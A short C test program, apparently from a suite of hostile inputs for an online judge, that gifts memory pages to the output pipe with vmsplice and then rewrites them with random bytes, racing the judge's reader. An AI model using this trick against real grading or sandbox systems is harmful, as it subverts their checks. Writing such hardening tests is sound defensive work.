// Attacks: the judge's reader, with pages given to the pipe by vmsplice and changed after they were counted.
#include "../hostile.h"
#include <sys/uio.h>
int main(void) {
  static char page[1 << 16] __attribute__((aligned(4096)));
  struct iovec vector = {page, sizeof page};
  while (1) {
    if (vmsplice(1, &vector, 1, SPLICE_F_GIFT) < 0) return 1;
    memset(page, (int)random(), sizeof page);
  }
}
